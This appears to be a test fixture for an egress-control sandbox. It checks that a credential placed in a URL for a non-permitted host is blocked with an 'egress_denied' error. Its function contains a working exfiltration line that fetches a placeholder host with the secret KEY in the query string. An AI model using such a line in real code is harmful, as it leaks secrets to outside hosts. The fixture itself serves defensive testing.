export const attempt = {
  tries: "to send a credential to another host in a URL",
  blockedBecause: "a placeholder in a URL of another host is denied",
  ends: { code: "egress_denied", message: "KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached?key=${credentials.KEY}`);
  return "got through";
};
